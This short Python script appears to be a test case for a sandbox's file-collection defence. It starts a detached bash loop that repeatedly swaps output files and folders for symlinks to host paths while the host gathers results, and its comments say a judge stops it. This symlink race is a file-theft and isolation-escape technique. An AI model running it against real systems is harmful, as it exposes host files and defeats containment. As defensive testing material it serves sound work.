# tries: swaps a file for a link to the host's while the host collects it
# stopped by: judge
# like: CVE-2026-1386
# with: {"collect": ["**/*"], "timeout_ms": 20000}

import subprocess
os.makedirs("/data/a", exist_ok=True)
open("/data/a/f", "w").write("harmless")
os.makedirs("/data/b", exist_ok=True)
for name in ("f", "g", "h"):
    open("/data/b/" + name, "w").write("harmless")
# It goes on while the program's end is being dealt with.
subprocess.Popen(["bash", "-c", f"cd /data; while true; do ln -sfn {FACTS.folder} x; mv -T x a 2>/dev/null; ln -sf {FACTS.readable} y; mv y b/f; echo harmless > z; mv z b/f; done"], stderr=subprocess.DEVNULL, start_new_session=True)
import time
time.sleep(0.2)
